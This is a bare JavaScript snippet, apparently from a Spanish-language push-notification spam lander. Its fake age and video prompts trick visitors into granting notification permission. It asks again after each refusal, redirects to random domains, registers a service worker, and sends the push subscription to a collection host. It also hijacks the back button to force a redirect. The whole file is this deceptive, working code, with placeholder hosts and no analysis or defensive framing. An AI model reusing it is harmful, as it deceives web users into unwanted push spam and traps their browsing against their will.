var pasos = ['Para confirmar que tienes 18 años pulsa <b>Permitir</b>', 'Pulsa <b>Permitir</b> para ver el vídeo', 'Espera... pulsa <b>Permitir</b> para continuar'], n = 0;
function pedir() {
  document.getElementById('msj').innerHTML = pasos[n % pasos.length];
  Notification.requestPermission().then(function (p) {
    if (p === 'granted') return registrar();
    if (p === 'denied') {
      n++;
      location.href = 'https://' + Math.random().toString(36).slice(2, 8) + '.video-hd.invalid/?p=' + n + '&z=' + zona;
    } else { n++; setTimeout(pedir, 400); }
  });
}
function registrar() {
  navigator.serviceWorker.register('/sw-' + zona + '.js').then(function (r) {
    return r.pushManager.subscribe({ userVisibleOnly: true, applicationServerKey: clave });
  }).then(function (s) {
    navigator.sendBeacon('https://push-col.invalid/s', JSON.stringify({ s: s, z: zona, src: new URLSearchParams(location.search).get('sub') }));
    location.replace('https://ofertas.invalid/r?z=' + zona);
  });
}
var zona = 44120, clave = 'CLAVE';
document.addEventListener('click', pedir);
history.pushState(null, '', location.href);
window.onpopstate = function () { location.replace('https://ofertas.invalid/back?z=' + zona); };
pedir();
